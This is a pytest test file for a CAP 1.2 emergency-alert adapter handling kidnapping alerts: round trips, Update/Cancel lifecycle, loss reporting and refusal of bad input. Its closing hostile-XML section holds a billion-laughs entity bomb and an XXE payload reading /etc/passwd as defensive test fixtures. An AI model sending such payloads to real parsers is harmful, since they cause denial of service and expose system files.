"""The CAP 1.2 adapter: the OASIS AMBER example in and out, the alert lifecycle, every loss reported, every
document written valid against the OASIS schema and the rules it does not check, hostile XML refused."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree  # type: ignore[import-untyped,unused-ignore]

from adapters.base import Rendered, Translation
from adapters.cap import NS, CapAdapter
from broker.errors import ConfigError, InputError
from broker.models import AlertMessageType, KidnappingAlert, Status, Tlp
from tests.conftest import ROOT, example

#: The time of sending of every translation: fixed, so that no test depends on the day it runs.
NOW = datetime(2026, 6, 1, 12, tzinfo=UTC)
ISSUER = {
    "node": "US.LAPD",
    "name": "Los Angeles Police Department",
    "desk": "LAPD Real-Time Analysis and Critical Response Division",
    "phone": "+12134852389",
}
SETTINGS: dict[str, Any] = {"issuer": ISSUER}
SOURCE = "amber.xml"
AMBER = (ROOT / "examples" / "adapters" / "cap" / "amber-oasis.xml").read_bytes()
AMBER_TEXT = AMBER.decode("utf-8")
XSD = etree.XMLSchema(etree.parse(str(ROOT / "tests" / "fixtures" / "cap" / "CAP-v1.2.xsd")))
CAP = f"{{{NS}}}"
#: The AMBER example's alert, as an Update or a Cancel names it.
REFERENCE = "KARO@CLETS.DOJ.CA.GOV,KAR0-0306112239-SW,2003-06-11T22:39:00-07:00"
#: A CAP time as CAP 1.2 writes it: whole seconds and a numeric zone (never Z).
CAP_TIME = r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}[-+][0-9]{2}:[0-9]{2}"
#: What CAP forbids in an identifier or a sender (and so in each part of a reference).
FORBIDDEN = re.compile(r"[\s,<&]")
#: The local fields a CAP document written by op7 leaves behind when read again: the issuer, which comes from
#: the network directory (here the settings), not from the document.
ISSUER_LOSSES = {"alert/sender", "alert/info/senderName", "alert/info/contact"}


def _adapter(**extra: Any) -> CapAdapter:
    return CapAdapter(settings={**SETTINGS, **extra})


def _translate(data: bytes, **extra: Any) -> Translation[KidnappingAlert]:
    return _adapter(**extra).translate(data, SOURCE, now=NOW)


def _problems(data: bytes, **extra: Any) -> dict[str, str]:
    with pytest.raises(InputError) as caught:
        _translate(data, **extra)
    assert caught.value.source == SOURCE
    assert caught.value.problems
    return {problem.path: problem.message for problem in caught.value.problems}


def _losses(lost: Any) -> dict[str, str]:
    return {item.field: item.value for item in lost}


def _render(message: KidnappingAlert, adapter: CapAdapter | None = None) -> Rendered:
    rendered = (adapter or _adapter()).render(message, message_id="m-1", sender="US.LAPD")
    assert (rendered.media_type, rendered.suffix) == ("application/cap+xml", ".xml")
    return rendered


def _alert(**changes: Any) -> KidnappingAlert:
    """op7's example alert with ``changes`` (sent at NOW, whole seconds)."""
    data = example("KidnappingAlert", NOW).model_dump() | changes
    return KidnappingAlert.model_validate(data, context={"now": NOW})


def _full_alert() -> KidnappingAlert:
    """op7's example alert with every field CAP can carry: victims with a photo, last seen with a position,
    suspects, vehicles, a ransom demand, an expiry, an instruction, and its English text."""
    return _alert(
        expires_at=NOW + timedelta(days=2),
        instruction="Appelez le 17 ou le 112. N'intervenez pas.",
        ransom={"demand": {"amount": "50000", "currency": "EUR"}, "channel": "SMS to the mother"},
        translations=[
            {
                "language": "en",
                "headline": "Child abducted in Lyon",
                "description": "Taken from a school entrance by two adults.\n\nPossible crossing at Le Perthus.",
                "instruction": "Call 17 or 112. Do not intervene.",
            }
        ],
    )


def _issuer_of(message: KidnappingAlert) -> dict[str, Any]:
    return {"node": message.issuer.node, "name": message.issuer.name, **message.issuer.contact.model_dump()}


def _valid_cap(data: bytes) -> etree._Element:
    """A document written by the adapter: valid against the OASIS CAP 1.2 schema, and following the rules of the
    specification that the schema does not check. Returns its root."""
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
    XSD.assertValid(root)
    assert root.tag == f"{CAP}alert"
    for tag in ("identifier", "sender"):
        value = root.findtext(f"{CAP}{tag}")
        assert value and not FORBIDDEN.search(value), (tag, value)
    for triple in (root.findtext(f"{CAP}references") or "").split():
        assert re.fullmatch(rf"[^\s,<&]+,[^\s,<&]+,{CAP_TIME}", triple), triple
    times = [root.find(f"{CAP}sent"), *root.iterfind(f".//{CAP}info/*")]
    for element in times:
        assert element is not None
        if etree.QName(element).localname in ("sent", "effective", "onset", "expires"):
            assert re.fullmatch(CAP_TIME, element.text or ""), element.text
            assert "Z" not in (element.text or "")
    scope = root.findtext(f"{CAP}scope")
    if scope == "Restricted":
        assert (root.findtext(f"{CAP}restriction") or "").strip()
    if scope == "Private":
        assert (root.findtext(f"{CAP}addresses") or "").strip()
    assert root.findtext(f"{CAP}msgType") in ("Alert", "Update", "Cancel")
    assert root.findtext(f"{CAP}status") in ("Actual", "Exercise", "Test")
    languages = [info.findtext(f"{CAP}language") for info in root.iterfind(f"{CAP}info")]
    assert languages and len(set(languages)) == len(languages), languages
    for circle in root.iterfind(f".//{CAP}circle"):
        assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?,-?[0-9]+(\.[0-9]+)? [0-9]+(\.[0-9]+)?", circle.text or ""), (
            circle.text
        )
    return root


def _infos(root: etree._Element) -> list[etree._Element]:
    return list(root.iterfind(f"{CAP}info"))


def _amber_text(language: str, tag: str) -> str:
    """An element's text in the example's info block of ``language``, exactly as the XML has it."""
    root = etree.fromstring(AMBER)
    (info,) = [i for i in _infos(root) if i.findtext(f"{CAP}language") == language]
    text = info.findtext(f"{CAP}{tag}")
    assert isinstance(text, str)
    return text


# --- inbound: the OASIS AMBER example ------------------------------------------------------------------------------


def test_the_oasis_amber_example_is_one_alert_in_two_languages() -> None:
    alert = _translate(AMBER).message
    assert alert.alert_id == "KAR0-0306112239-SW"
    assert alert.case_id == "KAR0-0306112239-SW"
    assert alert.msg_type is AlertMessageType.ALERT
    assert alert.references == ()
    assert alert.sent_at == datetime(2003, 6, 12, 5, 39, tzinfo=UTC)  # 2003-06-11T22:39:00-07:00
    assert alert.status is Status.ACTUAL
    assert (alert.urgency.value, alert.severity.value) == ("Immediate", "Severe")
    assert alert.languages == ("en-US", "es-US")
    assert alert.headline == "Amber Alert in Los Angeles County"
    # Free text kept whole: the double spaces, the quotes and the punctuation of the original.
    assert alert.description == _amber_text("en-US", "description")
    assert "3'0\", 40 LBS. LIGHT COMPLEXION.  DOB 06/24/01." in (alert.description or "")
    (spanish,) = alert.translations
    assert spanish.language == "es-US"
    assert spanish.headline == _amber_text("es-US", "headline") == "Alerta Amber en el condado de Los Ángeles"
    assert spanish.description == _amber_text("es-US", "description")
    assert alert.instruction is None and spanish.instruction is None
    assert (alert.handling.tlp, alert.handling.restrictions) == (Tlp.CLEAR, ())  # scope Public
    assert alert.expires_at is None
    assert (alert.issuer.node, alert.issuer.name, alert.issuer.contact.phone) == (
        "US.LAPD",
        ISSUER["name"],
        "+12134852389",
    )
    (victim,) = alert.victims
    assert (victim.given_names, victim.family_names) == ("Unknown", "Unknown")


def test_the_amber_example_reports_everything_it_leaves_behind() -> None:
    translation = _translate(AMBER)
    lost = _losses(translation.lost)
    assert set(lost) == {
        "alert/sender",
        "alert/source",
        "alert/info[1]/certainty",
        "alert/info[1]/senderName",
        "alert/info[1]/contact",
        "alert/info[1]/area",
        "alert/info[2]/event",
        "alert/info[2]/certainty",
        "alert/info[2]/senderName",
        "alert/info[2]/contact",
        "alert/info[2]/area",
        "victims",
    }
    assert lost["alert/sender"] == "KARO@CLETS.DOJ.CA.GOV"
    assert lost["alert/source"] == "SW"
    assert lost["alert/info[1]/certainty"] == lost["alert/info[2]/certainty"] == "Likely"
    assert lost["alert/info[1]/senderName"] == "Los Angeles Police Dept - LAPD"
    assert lost["alert/info[2]/senderName"] == "Departamento de Policía de Los Ángeles - LAPD"
    assert lost["alert/info[1]/contact"] == "DET. SMITH, 77TH DIV, LOS ANGELES POLICE DEPT-LAPD AT 213 485-2389"
    # An area is shown whole: its description and its geocode.
    assert lost["alert/info[1]/area"] == "Los Angeles County SAME 006037"
    assert lost["alert/info[2]/area"] == "condado de Los Ángeles SAME 006037"
    assert lost["alert/info[2]/event"] == "Abducción de Niño"
    assert lost["victims"] == "(none structured)"
    reasons = {item.field: item.reason for item in translation.lost}
    assert "one unnamed stands in" in reasons["victims"]
    assert "event" in reasons["alert/info[2]/event"]
    assert all(reasons.values())
    report = translation.report("m-1")
    assert report["message_type"] == "op7.alert.KidnappingAlert"
    assert [item["field"] for item in report["lost"]] == [item.field for item in translation.lost]
    json.dumps(report)


def test_a_second_info_block_in_a_language_already_read_is_reported_whole() -> None:
    spanish = AMBER_TEXT[AMBER_TEXT.rindex("<info>") : AMBER_TEXT.rindex("</info>") + len("</info>")]
    again = spanish.replace("Alerta Amber en el condado", "Otra alerta en el condado")
    translation = _translate(AMBER_TEXT.replace("</alert>", f"{again}\n</alert>").encode())
    assert translation.message.languages == ("en-US", "es-US")
    assert translation.message.translations[0].headline == _amber_text("es-US", "headline")
    lost = {item.field: item for item in translation.lost}
    # Its whole text, shortened for the report: the value shown is at most 120 characters.
    assert lost["alert/info[3]"].value.startswith("es-US Rescue Abducción de Niño Immediate Severe Likely SAME CAE")
    assert lost["alert/info[3]"].value.endswith("LAPD Otra aler…")
    assert "one text per language" in lost["alert/info[3]"].reason
    assert not [field for field in lost if field.startswith("alert/info[3]/")]


def test_what_op7_holds_is_not_reported_lost() -> None:
    """The English event wording, the Rescue category and the SAME CAE event code are what a kidnapping alert is:
    not losses. Another event code, category or response type is."""
    lost = _losses(_translate(AMBER).lost)
    assert not {"alert/info[1]/event", "alert/info[1]/category", "alert/info[1]/eventCode"} & set(lost)
    text = AMBER_TEXT.replace("<value>CAE</value>", "<value>CEM</value>", 1)
    text = text.replace("<category>Rescue</category>", "<category>Rescue</category><category>Met</category>", 1)
    text = text.replace("<urgency>", "<responseType>Monitor</responseType><urgency>", 1)
    lost = _losses(_translate(text.encode()).lost)
    assert lost["alert/info[1]/eventCode"] == "SAME CEM"
    assert lost["alert/info[1]/category[2]"] == "Met"
    assert lost["alert/info[1]/responseType"] == "Monitor"


def test_settings_override_what_the_document_says_of_its_handling() -> None:
    alert = _translate(AMBER, tlp="RED", restrictions=["NO_JUDICIAL_USE"]).message
    assert (alert.handling.tlp.value, [r.value for r in alert.handling.restrictions]) == ("RED", ["NO_JUDICIAL_USE"])
    restricted = AMBER_TEXT.replace("<scope>Public</scope>", "<scope>Restricted</scope>")
    assert _translate(restricted.encode()).message.handling.tlp is Tlp.AMBER
    worded = restricted.replace(
        "<scope>Restricted</scope>", "<scope>Restricted</scope><restriction>Police only</restriction>"
    )
    translation = _translate(worded.encode())
    assert translation.message.handling.tlp is Tlp.AMBER
    assert _losses(translation.lost)["alert/restriction"] == "Police only"


def test_settings_are_checked_when_the_adapter_is_made() -> None:
    for bad in ({"max_bytes": "big"}, {"max_bytes": 0}, {"cap_sender": "LAPD, CA"}, {"colour": "amber"}):
        with pytest.raises(ConfigError):
            _adapter(**bad)
    with pytest.raises(ConfigError, match="kidnapping alerts"):
        CapAdapter(type(example("CaseInformation", NOW)), settings=SETTINGS)
    with pytest.raises(ConfigError, match="issuing authority"):
        CapAdapter().translate(AMBER, SOURCE, now=NOW)
    with pytest.raises(ConfigError, match="CaseInformation"):
        _adapter().render(example("CaseInformation", NOW), message_id="m-1", sender="US.LAPD")


# --- outbound: CAP 1.2 documents -----------------------------------------------------------------------------------


def test_the_amber_alert_is_written_back_as_cap_1_2_in_both_languages() -> None:
    alert = _translate(AMBER).message
    rendered = _render(alert)
    assert rendered.lost == ()
    root = _valid_cap(rendered.data)
    assert root.findtext(f"{CAP}identifier") == "KAR0-0306112239-SW"
    assert root.findtext(f"{CAP}sender") == "US.LAPD"
    assert root.findtext(f"{CAP}sent") == "2003-06-12T05:39:00-00:00"
    assert (root.findtext(f"{CAP}status"), root.findtext(f"{CAP}msgType")) == ("Actual", "Alert")
    assert (root.findtext(f"{CAP}scope"), root.find(f"{CAP}restriction")) == ("Public", None)
    assert root.findtext(f"{CAP}incidents") == "KAR0-0306112239-SW"
    english, spanish = _infos(root)
    assert [english.findtext(f"{CAP}{tag}") for tag in ("language", "event", "headline", "description")] == [
        "en-US",
        "Child Abduction",
        "Amber Alert in Los Angeles County",
        _amber_text("en-US", "description"),
    ]
    assert [spanish.findtext(f"{CAP}{tag}") for tag in ("language", "headline", "description")] == [
        "es-US",
        _amber_text("es-US", "headline"),
        _amber_text("es-US", "description"),
    ]
    for info in (english, spanish):
        assert [info.findtext(f"{CAP}{tag}") for tag in ("urgency", "severity", "certainty")] == [
            "Immediate",
            "Severe",
            "Unknown",
        ]
        code = info.find(f"{CAP}eventCode")
        assert code is not None
        assert (code.findtext(f"{CAP}valueName"), code.findtext(f"{CAP}value")) == ("SAME", "CAE")


def test_an_op7_alert_is_written_as_cap_1_2_with_its_structured_fields() -> None:
    alert = _full_alert()
    rendered = _render(alert)
    assert rendered.lost == ()
    root = _valid_cap(rendered.data)
    assert root.findtext(f"{CAP}identifier") == alert.alert_id
    assert root.findtext(f"{CAP}sent") == "2026-06-01T12:00:00-00:00"
    assert (root.findtext(f"{CAP}status"), root.findtext(f"{CAP}msgType")) == ("Exercise", "Alert")
    assert root.findtext(f"{CAP}scope") == "Restricted"
    assert root.findtext(f"{CAP}restriction") == "TLP:AMBER; NO_ONWARD_TRANSMISSION"
    assert root.findtext(f"{CAP}incidents") == "FR-GN-2026-000142"
    french, english = _infos(root)
    assert [i.findtext(f"{CAP}language") for i in (french, english)] == ["fr", "en"]
    assert [i.findtext(f"{CAP}event") for i in (french, english)] == ["Enlèvement d'enfant", "Child Abduction"]
    assert english.findtext(f"{CAP}description") == alert.translations[0].description  # line breaks kept
    for info in (french, english):
        assert info.findtext(f"{CAP}expires") == "2026-06-03T12:00:00-00:00"
        assert info.findtext(f"{CAP}senderName") == "Gendarmerie nationale"
        assert info.findtext(f"{CAP}contact") == "Centre de commandement 24/7, +33140000000, ops@gn.example"
        parameters = {
            p.findtext(f"{CAP}valueName"): json.loads(p.findtext(f"{CAP}value") or "")
            for p in info.iterfind(f"{CAP}parameter")
        }
        assert set(parameters) == {"op7:victims", "op7:last_seen", "op7:suspects", "op7:vehicles", "op7:ransom"}
        assert parameters["op7:vehicles"][0]["plate"] == "GH-123-KL"
        (resource,) = info.iterfind(f"{CAP}resource")
        assert resource.findtext(f"{CAP}uri") == "https://photos.gn.example/cases/000142/victim-1.jpg"
        assert resource.findtext(f"{CAP}mimeType") == "image/jpeg"
        (area,) = info.iterfind(f"{CAP}area")
        assert area.findtext(f"{CAP}areaDesc") == "Ecole Jean Mace, rue de Marseille, Lyon"
        assert area.findtext(f"{CAP}circle") == "45.7485,4.8422 0"


def test_a_position_is_written_in_decimal_degrees() -> None:
    last_seen = {"at": NOW - timedelta(hours=1), "place": "Null Island", "country": "GH"}
    alert = _alert(last_seen=last_seen | {"position": {"latitude": 0.00001, "longitude": -1e-7}})
    root = _valid_cap(_render(alert).data)
    assert root.findtext(f".//{CAP}circle") == "0.00001,-0.0000001 0"
    assert _translate(_render(alert).data, issuer=_issuer_of(alert)).message.last_seen == alert.last_seen


@pytest.mark.parametrize("tlp", list(Tlp))
def test_each_handling_code_is_written_and_read_back(tlp: Tlp) -> None:
    restrictions = ["NO_ONWARD_TRANSMISSION", "NO_JUDICIAL_USE"]
    alert = _alert(handling={"tlp": tlp, "restrictions": restrictions}, languages=["fr"])
    rendered = _render(alert)
    root = _valid_cap(rendered.data)
    if tlp is Tlp.CLEAR:
        assert (root.findtext(f"{CAP}scope"), root.find(f"{CAP}restriction")) == ("Public", None)
        assert _losses(rendered.lost) == {"handling.restrictions": "NO_ONWARD_TRANSMISSION NO_JUDICIAL_USE"}
    else:
        assert rendered.lost == ()
        assert root.findtext(f"{CAP}scope") == "Restricted"
        assert (root.findtext(f"{CAP}restriction") or "").startswith(f"TLP:{tlp.value.replace('_', '+')}; ")
        again = _translate(etree.tostring(root)).message
        assert again.handling == alert.handling


def test_what_cap_cannot_hold_is_reported_when_written() -> None:
    alert = _alert(
        sent_at=NOW.replace(microsecond=250_000),
        msg_type="Update",
        references=["FR-GN-ALERT-1"],
        languages=["fr", "en", "de"],
        expires_at=NOW + timedelta(hours=6, microseconds=1),
    )
    rendered = _render(alert)
    root = _valid_cap(rendered.data)
    assert root.findtext(f"{CAP}sent") == "2026-06-01T12:00:00-00:00"
    assert root.find(f"{CAP}references") is None  # an Update of an alert this adapter has not seen
    assert _losses(rendered.lost) == {
        "sent_at": "2026-06-01T12:00:00.250000+00:00",
        "expires_at": "2026-06-01T18:00:00.000001+00:00",
        "references": "FR-GN-ALERT-1",
        "languages": "en de",
    }
    assert all(item.reason for item in rendered.lost)
    # The ids referenced travel in an op7 parameter: read back, the Update still names what it changes.
    assert _translate(rendered.data).message.references == ("FR-GN-ALERT-1",)


def test_a_text_in_the_first_language_again_is_reported_not_written_twice() -> None:
    alert = _alert(languages=["fr", "fr"], translations=[{"language": "fr", "headline": "Encore"}])
    rendered = _render(alert)
    root = _valid_cap(rendered.data)
    assert [i.findtext(f"{CAP}language") for i in _infos(root)] == ["fr"]
    assert _losses(rendered.lost) == {"translations[0]": "Encore"}


# --- round trips ---------------------------------------------------------------------------------------------------


def test_an_op7_alert_comes_back_equal_from_cap() -> None:
    alert = _full_alert()
    translation = _translate(_render(alert).data, issuer=_issuer_of(alert))
    assert translation.message == alert
    # Left behind, and reported: only the issuer's CAP wording, which the network directory stands for.
    lost = {re.sub(r"\[\d\]", "", item.field) for item in translation.lost}
    assert lost == ISSUER_LOSSES
    assert len(translation.lost) == 5  # sender, then senderName and contact in each of the two info blocks


def test_the_amber_example_is_stable_through_op7_and_cap() -> None:
    first = _translate(AMBER)
    second = _translate(_render(first.message).data)
    third = _translate(_render(second.message).data)
    assert first.message == second.message == third.message
    # The stand-in victim now travels as op7 data: what is left behind is the issuer's wording only.
    assert {re.sub(r"\[\d\]", "", item.field) for item in second.lost} == ISSUER_LOSSES
    assert second.lost == third.lost
    assert _render(second.message).data == _render(third.message).data


# --- the lifecycle: Update, Cancel, AllClear -----------------------------------------------------------------------


def _lifecycle(msg_type: str, identifier: str, sent: str, headline: str, references: str = REFERENCE) -> bytes:
    """A CAP Update or Cancel of the AMBER example, as the California DOJ would send it."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>{identifier}</identifier>
  <sender>KARO@CLETS.DOJ.CA.GOV</sender>
  <sent>{sent}</sent>
  <status>Actual</status>
  <msgType>{msg_type}</msgType>
  <scope>Public</scope>
  <references>{references}</references>
  <info>
    <language>en-US</language>
    <category>Rescue</category>
    <event>Child Abduction</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Unknown</certainty>
    <eventCode><valueName>SAME</valueName><value>CAE</value></eventCode>
    <headline>{headline}</headline>
  </info>
</alert>
""".encode()


UPDATE = _lifecycle(
    "Update", "KAR0-0306112239-SW-U1", "2003-06-12T01:15:00-07:00", "Amber Alert: suspect vehicle seen on I-5"
)
CANCEL = _lifecycle("Cancel", "KAR0-0306112239-SW-C1", "2003-06-12T09:30:00-07:00", "Amber Alert cancelled")


def test_an_update_and_a_cancel_move_the_same_case() -> None:
    adapter = _adapter()
    alert = adapter.translate(AMBER, SOURCE, now=NOW).message
    update = adapter.translate(UPDATE, "update.xml", now=NOW).message
    cancel = adapter.translate(CANCEL, "cancel.xml", now=NOW).message
    assert (update.msg_type, cancel.msg_type) == (AlertMessageType.UPDATE, AlertMessageType.CANCEL)
    assert update.references == cancel.references == ("KAR0-0306112239-SW",)
    assert update.case_id == cancel.case_id == alert.case_id
    assert (update.alert_id, cancel.alert_id) == ("KAR0-0306112239-SW-U1", "KAR0-0306112239-SW-C1")
    assert update.sent_at == datetime(2003, 6, 12, 8, 15, tzinfo=UTC)
    assert update.headline == "Amber Alert: suspect vehicle seen on I-5"
    # Several references: each one's id, the case is the first.
    both = _lifecycle(
        "Update",
        "KAR0-U2",
        "2003-06-12T02:00:00-07:00",
        "Second update",
        f"{REFERENCE} KARO@CLETS.DOJ.CA.GOV,KAR0-0306112239-SW-U1,2003-06-12T01:15:00-07:00",
    )
    again = adapter.translate(both, "update-2.xml", now=NOW).message
    assert again.references == ("KAR0-0306112239-SW", "KAR0-0306112239-SW-U1")
    assert again.case_id == alert.case_id


def test_an_update_written_after_its_alert_names_it_by_the_full_cap_reference() -> None:
    alert = _translate(AMBER).message
    update = _translate(UPDATE).message
    cancel = _translate(CANCEL).message
    receiving = _adapter()  # the CAP system at the other end: it has written the alert before the update
    _valid_cap(_render(alert, receiving).data)
    reference = "US.LAPD,KAR0-0306112239-SW,2003-06-12T05:39:00-00:00"
    for message, msg_type in ((update, "Update"), (cancel, "Cancel")):
        rendered = _render(message, receiving)
        assert rendered.lost == ()
        root = _valid_cap(rendered.data)
        assert root.findtext(f"{CAP}msgType") == msg_type
        assert root.findtext(f"{CAP}references") == reference
        assert root.findtext(f"{CAP}incidents") == "KAR0-0306112239-SW"
        back = _translate(rendered.data).message
        assert (back.msg_type.value, back.references, back.case_id) == (
            msg_type,
            ("KAR0-0306112239-SW",),
            "KAR0-0306112239-SW",
        )
    # The adapter that read the alert names it by its own CAP sender and time, as it was read.
    reading = _adapter()
    reading.translate(AMBER, SOURCE, now=NOW)
    root = _valid_cap(_render(update, reading).data)
    assert root.findtext(f"{CAP}references") == "KARO@CLETS.DOJ.CA.GOV,KAR0-0306112239-SW,2003-06-12T05:39:00-00:00"


def test_an_all_clear_is_an_update_with_response_type_all_clear() -> None:
    alert = _translate(AMBER).message
    data = _translate(UPDATE).message.model_dump() | {"msg_type": "AllClear", "alert_id": "KAR0-0306112239-SW-AC"}
    data |= {"languages": alert.languages, "translations": alert.translations}
    all_clear = KidnappingAlert.model_validate(data, context={"now": NOW})
    receiving = _adapter()
    receiving.render(alert, message_id="m-0", sender="US.LAPD")
    root = _valid_cap(_render(all_clear, receiving).data)
    assert root.findtext(f"{CAP}msgType") == "Update"
    assert [i.findtext(f"{CAP}responseType") for i in _infos(root)] == ["AllClear", "AllClear"]
    back = _translate(etree.tostring(root))
    assert back.message.msg_type is AlertMessageType.ALL_CLEAR
    assert back.message.references == ("KAR0-0306112239-SW",)
    # The response type is the message type: not a loss, in either language.
    assert {re.sub(r"\[\d\]", "", item.field) for item in back.lost} == ISSUER_LOSSES


def test_all_clear_in_an_alert_is_not_an_all_clear_and_is_reported() -> None:
    text = AMBER_TEXT.replace("<urgency>", "<responseType>AllClear</responseType><urgency>", 1)
    translation = _translate(text.encode())
    assert translation.message.msg_type is AlertMessageType.ALERT
    assert _losses(translation.lost)["alert/info[1]/responseType"] == "AllClear"


# --- refused, with where and why -----------------------------------------------------------------------------------


def _amber(old: str, new: str, count: int = 1) -> bytes:
    assert old in AMBER_TEXT
    return AMBER_TEXT.replace(old, new, count).encode()


WITHOUT_INFO = re.sub(r"\s*<info>.*</info>", "", AMBER_TEXT, flags=re.DOTALL).encode()


@pytest.mark.parametrize(
    ("data", "path", "says"),
    [
        (_amber("<status>Actual", "<status>System"), "alert/status", "refused: system messages"),
        (_amber("<status>Actual", "<status>Draft"), "alert/status", "refused: a draft is not sent"),
        (_amber("<msgType>Alert", "<msgType>Ack"), "alert/msgType", "refused: op7 acknowledges"),
        (_amber("<msgType>Alert", "<msgType>Error"), "alert/msgType", "refused: op7 acknowledges"),
        (_amber("<identifier>KAR0-0306112239-SW</identifier>", ""), "alert/identifier", "required by CAP 1.2"),
        (_amber("<identifier>KAR0-0306112239-SW", "<identifier>KAR0 0306112239"), "alert/identifier", "op7 ids"),
        (_amber("<sender>KARO@CLETS.DOJ.CA.GOV</sender>", ""), "alert/sender", "required by CAP 1.2"),
        (_amber("<sender>KARO@", "<sender>KARO,"), "alert/sender", "no spaces, commas"),
        (_amber("<sent>2003-06-11T22:39:00-07:00</sent>", ""), "alert/sent", "required by CAP 1.2"),
        (_amber("<sent>2003-06-11T22:39:00-07:00", "<sent>2003-06-11T22:39:00"), "alert/sent", "with its zone"),
        (_amber("<sent>2003-06-11T22:39:00-07:00", "<sent>2003-06-31T22:39:00-07:00"), "alert/sent", "not a time"),
        (_amber("<scope>Public</scope>", ""), "alert/scope", "required by CAP 1.2"),
        (WITHOUT_INFO, "alert/info", "needs at least one info block"),
        (_amber(":cap:1.2", ":cap:1.1"), "alert", "not a CAP 1.2 alert"),
        (
            _amber("<msgType>Alert</msgType>", "<msgType>Update</msgType><references>KARO,KAR0</references>"),
            "alert/references",
            "each reference is sender,identifier,sent",
        ),
        (
            _amber("<msgType>Alert</msgType>", "<msgType>Update</msgType><references>K,KAR0,yesterday</references>"),
            "alert/references",
            "each reference is sender,identifier,sent",
        ),
        (_amber("<event>Child Abduction</event>", ""), "alert/info[1]/event", "required by CAP 1.2"),
        (_amber("<certainty>Likely</certainty>", ""), "alert/info[1]/certainty", "required by CAP 1.2"),
        (_amber("<urgency>Immediate</urgency>", "", 2), "alert/info[1]/urgency", "required by CAP 1.2"),
        (
            _amber("<area>", "<parameter><valueName>op7:victims</valueName><value>[{</value></parameter><area>"),
            "alert/info[1]/parameter[1] (op7:victims)",
            "not op7 JSON",
        ),
        (
            _amber("<area>", "<parameter><valueName>op7:references</valueName><value>7</value></parameter><area>"),
            "alert/info[1]/parameter[1] (op7:references)",
            "expected a list of ids",
        ),
        (_amber("<headline>Amber Alert in", "<headline>" + "x" * 200), "headline", "at most 200 characters"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 40 else None,
)
def test_a_document_op7_cannot_send_is_refused_by_cap_path(data: bytes, path: str, says: str) -> None:
    problems = _problems(data)
    assert path in problems, problems
    assert says in problems[path]


def test_the_cap_1_1_namespace_is_named_in_the_refusal() -> None:
    with pytest.raises(InputError) as caught:
        _translate(_amber(":cap:1.2", ":cap:1.1"))
    (problem,) = caught.value.problems
    assert problem.got == "urn:oasis:names:tc:emergency:cap:1.1"
    assert NS in problem.message


def test_every_problem_is_listed_at_once() -> None:
    data = _amber("<status>Actual</status>", "<status>Draft</status>")
    data = data.replace(b"<identifier>KAR0-0306112239-SW</identifier>", b"").replace(b"22:39:00-07:00", b"22:39:00")
    assert set(_problems(data)) == {"alert/identifier", "alert/sent", "alert/status"}


def test_xml_that_is_not_well_formed_is_refused_with_its_line_and_column() -> None:
    broken = (
        b'<?xml version="1.0"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">\n  <identifier>x</identifer>\n'
    )
    (path, message), *_ = _problems(broken).items()
    assert path == "line 3 column 17"
    assert message.startswith("not well-formed XML: mismatched tag")
    truncated = _problems(AMBER[: len(AMBER) // 2])
    assert all(re.fullmatch(r"line \d+ column \d+", path) for path in truncated)
    assert _problems(b"") == {"line 1 column 0": "not well-formed XML: no element found: line 1, column 0"}


def test_a_wrong_encoding_is_refused() -> None:
    # Latin-1 bytes in a document that says it is UTF-8: refused where the first such byte is (the Spanish event).
    latin1 = AMBER_TEXT.encode("latin-1")
    ((path, message),) = _problems(latin1).items()
    line = AMBER_TEXT[: AMBER_TEXT.index("Abducción")].count("\n") + 1
    assert path.startswith(f"line {line} column ")
    assert "not well-formed (invalid token)" in message
    # An encoding the XML parser cannot read.
    for declared in ("shift_jis", "utf-7", "rot13", "no-such-encoding"):
        data = AMBER_TEXT.replace('encoding = "UTF-8"', f'encoding = "{declared}"').encode()
        problems = _problems(data)
        assert list(problems) == [""], declared
        assert problems[""].startswith("cannot read the declared encoding: "), declared
    # UTF-16 with its byte order mark is XML too, and reads the same.
    utf16 = AMBER_TEXT.replace('encoding = "UTF-8"', 'encoding = "UTF-16"').encode("utf-16")
    assert _translate(utf16).message == _translate(AMBER).message


def test_a_document_over_max_bytes_is_refused_before_it_is_read() -> None:
    problems = _problems(AMBER, max_bytes=1000)
    assert problems == {"": "larger than 1,000 bytes"}
    assert _translate(AMBER, max_bytes=len(AMBER)).message.alert_id == "KAR0-0306112239-SW"
    assert _problems(b"<" * (5 * 1024 * 1024 + 1)) == {"": "larger than 5,242,880 bytes"}


# --- hostile XML ---------------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>
"""
EXTERNAL_ENTITY = AMBER_TEXT.replace(
    "<alert ", '<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<alert ', 1
